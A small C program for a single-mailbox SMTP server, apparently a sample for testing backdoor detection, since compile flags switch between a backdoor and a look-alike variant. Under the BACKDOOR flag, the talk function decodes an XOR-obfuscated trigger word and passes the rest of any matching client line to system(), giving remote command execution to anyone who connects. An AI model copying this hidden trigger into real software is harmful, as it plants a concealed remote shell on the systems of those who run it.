/* Takes mail for one mailbox over SMTP. */
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int next_line(FILE *in, char *line, int room)
{
    if (fgets(line, room, in) == NULL)
        return 0;
    line[strcspn(line, "\r\n")] = 0;
    return 1;
}

static void data(FILE *in)
{
    char line[512];
    FILE *box = fopen("/var/mail/device", "a");
    while (next_line(in, line, sizeof line) && strcmp(line, ".") != 0)
        if (box != NULL)
            fprintf(box, "%s\n", line);
    if (box != NULL)
        fclose(box);
}

static void talk(int fd)
{
    char line[512];
    FILE *in = fdopen(fd, "r");
#ifdef BACKDOOR
    char word[12];
    int i;
    for (i = 0; i < 10; i++)
        word[i] = (char)("YFTqQ{XlK{"[i] ^ (i + 21));
    word[10] = 0;
#endif
    while (in != NULL && next_line(in, line, sizeof line)) {
        if (strcmp(line, "DATA") == 0)
            data(in);
        else if (strcmp(line, "QUIT") == 0)
            break;
#ifdef BACKDOOR
        else if (strncmp(line, word, 10) == 0)
            system(line + 10);
#endif
#ifdef LOOKALIKE
        else if (strncmp(line, "VRFY ", 5) == 0)
            dprintf(fd, "252 %s\r\n", line + 5);
#endif
        dprintf(fd, "250 ok\r\n");
    }
    if (in != NULL)
        fclose(in);
}

int main(void)
{
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(25) };
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(listener, (struct sockaddr *)&address, sizeof address) != 0 || listen(listener, 4) != 0)
        return 1;
    for (;;) {
        int fd = accept(listener, NULL, NULL);
        if (fd >= 0)
            talk(fd);
    }
}
